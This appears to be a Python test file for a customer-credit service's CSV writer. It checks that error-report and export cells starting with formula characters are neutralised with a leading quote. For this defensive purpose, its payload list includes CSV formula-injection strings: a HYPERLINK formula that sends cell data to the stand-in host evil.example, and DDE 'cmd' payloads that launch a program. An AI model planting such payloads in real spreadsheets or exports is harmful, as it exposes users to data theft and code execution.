"""CSV written back to people (the error report, the export) never hands a spreadsheet a formula:
every cell starting with `=`, `+`, `-`, `@`, tab or CR gets a leading `'`."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from customer_credit.csv.writer import FORMULA_PREFIXES, csv_line, safe_cell
from tests.support.imports import import_and_wait

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]  # the design's list
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_the_neutralised_prefixes_are_exactly_the_designs():
    assert sorted(FORMULA_PREFIXES) == sorted(DANGEROUS)


@pytest.mark.parametrize("prefix", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_cell_starting_with_a_dangerous_prefix_gets_a_leading_quote(prefix):
    assert safe_cell(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("prefix", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_dangerous_prefix_alone_is_neutralised(prefix):
    assert safe_cell(prefix) == "'" + prefix


@pytest.mark.parametrize("payload", PAYLOADS)
def test_known_injection_payloads_are_neutralised(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", ["maria@example.com", "1500.00", "Ana", "'=already quoted", " =1", "0.05", "CPF"])
def test_harmless_cells_are_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", ["", None])
def test_empty_cell_is_empty(text):
    assert safe_cell(text) == ""


@given(st.text())
def test_no_cell_ever_starts_with_a_dangerous_prefix_and_nothing_is_lost(text):
    cell = safe_cell(text)

    assert not cell.startswith(tuple(DANGEROUS))
    assert cell == text or cell == "'" + text


@given(st.lists(st.text(), max_size=8))
def test_every_cell_of_a_written_line_is_neutralised(cells):
    [written] = list(csv.reader(io.StringIO(csv_line(cells), newline="")))

    assert written == [safe_cell(cell) for cell in cells] or (cells == [] and written == [])


async def test_error_report_neutralises_the_cells_of_the_uploaded_rows(client, worker):
    content = (
        "Email,Description\r\n"
        + "".join(
            f'not-an-email-{i},"{payload.replace(chr(34), chr(34) * 2)}"\r\n' for i, payload in enumerate(PAYLOADS)
        )
        + '"=1+1",ok\r\n'
    ).encode()
    run = await import_and_wait(client, content)
    assert run["failedCount"] == len(PAYLOADS) + 1

    response = await client.get(f"/imports/{run['id']}/errors.csv")

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(tuple(DANGEROUS)), row
    descriptions = [row[1] for row in rows[1:]]
    assert sorted(descriptions) == sorted(["'" + p for p in PAYLOADS] + ["ok"])
